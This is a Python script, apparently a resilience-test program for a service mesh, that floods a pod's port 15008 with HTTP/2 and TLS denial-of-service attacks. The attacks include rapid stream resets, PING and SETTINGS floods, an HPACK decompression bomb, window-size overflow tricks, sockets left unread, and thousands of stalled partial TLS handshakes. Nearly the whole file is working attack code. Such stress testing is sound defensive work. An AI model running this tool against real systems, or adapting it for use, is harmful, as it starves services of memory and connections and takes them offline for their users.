"""Attacks on a pod's port 15008, by somebody whom the mesh believes or by nobody: a program of the starvation cases.

    flood.py HOW HOST PORT FOLDER      streams lead to HOST:PORT; root.pem and client.both are in FOLDER

Says READY when the attack is under way, goes on until SIGTERM, and then says how many connections and frames it made.
"""
from __future__ import annotations

import contextlib
import select
import signal
import socket
import ssl
import sys
import time
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
HEADERS_END, ACKNOWLEDGED = 4, 1
HELLO = b"\x16\x03\x01\x02\x00\x01\x00"  # the first bytes of a ClientHello that never ends
STALLED, WAVE, TUNNELS, STREAMS = 4_096, 4_000, 8, 20
BATCH = 50  # frames in one record


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


class Flood:
    def __init__(self, how: str, host: str, port: int, folder: Path) -> None:
        self.how, self.to = how, (host, 15008)
        self.connections = self.frames = 0
        self.ended = False
        if how not in ("stall", "unfinished"):
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.context.check_hostname = False
            self.context.load_verify_locations(folder / "root.pem")
            self.context.load_cert_chain(folder / "client.both")
            self.context.set_alpn_protocols(["h2"])
        self.authority = f"{host}:{port}".encode()

    def end(self, *_: object) -> None:
        self.ended = True

    def request(self, stream: int) -> bytes:
        return frame(HEADERS, HEADERS_END, stream, b"\x02\x07CONNECT\x01" + bytes((len(self.authority),)) + self.authority)

    def said(self, stream: int) -> bytes:
        if self.how == "resets":
            return self.request(stream) + frame(RESET, stream=stream, payload=(8).to_bytes(4, "big"))
        if self.how == "pings":
            return frame(PING, payload=bytes(8)) * BATCH
        if self.how == "settings":
            return frame(SETTINGS, payload=(4).to_bytes(2, "big") + stream.to_bytes(4, "big")) * BATCH
        if self.how == "headers":  # 3,800 bytes into the table, then 8,000 times its number: 30 MB for 12 KB
            return frame(HEADERS, HEADERS_END, stream, b"\x40\x01x\x7f\xd9\x1c" + b"y" * 3_800 + b"\xbe" * 8_000)
        # window tricks: each stream's window to its end, and beyond
        return self.request(stream) + frame(UPDATE, stream=stream, payload=(0x7fffffff).to_bytes(4, "big"))

    # ---- TCP alone ---------------------------------------------------------------------------------------------------------------

    def hold(self, most: int, say: bytes, seconds: float) -> None:
        """`most` connections at a time that say this and nothing more. `seconds`: all of them go then, and as many come."""
        poll, held, told, began = select.epoll(), {}, False, time.monotonic()
        while not self.ended:
            while len(held) < most and not self.ended:
                one = socket.socket()
                one.setblocking(False)
                one.connect_ex(self.to)
                held[one.fileno()] = one
                poll.register(one, select.EPOLLOUT | select.EPOLLIN | select.EPOLLET)
                self.connections += 1
                if self.connections % 100 == 0:
                    break
            if not told and self.connections >= most:  # what stands over the pod's bound has given way by then
                told = True
                print("READY", flush=True)
            for fd, what in poll.poll(0.01 if len(held) >= most else 0):
                try:
                    if what & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLIN):
                        raise OSError
                    held[fd].send(say)
                except BlockingIOError:
                    pass
                except OSError:
                    held.pop(fd).close()
            if seconds and time.monotonic() - began >= seconds:
                began = time.monotonic()
                for one in held.values():
                    one.close()
                held.clear()

    # ---- tunnels -----------------------------------------------------------------------------------------------------------------

    def tunnel(self, initial: bytes = b"") -> ssl.SSLSocket:
        plain = socket.socket()
        if self.how == "unread":
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        plain.settimeout(5)
        plain.connect(self.to)
        made = self.context.wrap_socket(plain)
        made.sendall(PREFACE + frame(SETTINGS, payload=initial))
        self.connections += 1
        return made

    def unread(self) -> None:
        """Windows as wide as can be, streams to whoever sends without end, and a socket that nobody reads."""
        wide = b"\0\x04" + (0x7fffffff).to_bytes(4, "big")
        held = []
        for _ in range(TUNNELS):
            with contextlib.suppress(OSError):
                made = self.tunnel(wide)
                opens = b"".join(self.request(2 * number + 1) for number in range(STREAMS))
                made.sendall(frame(UPDATE, payload=(0x7fff0000 - 65_535).to_bytes(4, "big")) + opens)
                self.frames += STREAMS
                held.append(made)
        print("READY", flush=True)
        while not self.ended:
            time.sleep(0.05)

    def frames_without_end(self) -> None:
        """On one tunnel after the other, each until it is ended."""
        told = False
        while not self.ended:
            with contextlib.suppress(OSError):
                made = self.tunnel()
                made.settimeout(0.5)
                made.sendall(self.request(1))
                stream = 3
                while not self.ended:
                    said = b"".join(self.said(stream + 2 * number) for number in range(1 if self.how == "headers" else 10))
                    stream += 20
                    made.sendall(said)
                    self.frames += (1 if self.how == "headers" else 10) * (BATCH if self.how in ("pings", "settings") else 1)
                    if not told:
                        told = True
                        print("READY", flush=True)

    def run(self) -> None:
        signal.signal(signal.SIGTERM, self.end)
        if self.how == "stall":
            self.hold(STALLED, HELLO, 0)
        elif self.how == "unfinished":
            self.hold(WAVE, HELLO, 0.25)
        elif self.how == "unread":
            self.unread()
        else:
            self.frames_without_end()
        print(self.connections, self.frames, flush=True)


if __name__ == "__main__":
    Flood(sys.argv[1], sys.argv[2], int(sys.argv[3]), Path(sys.argv[4])).run()
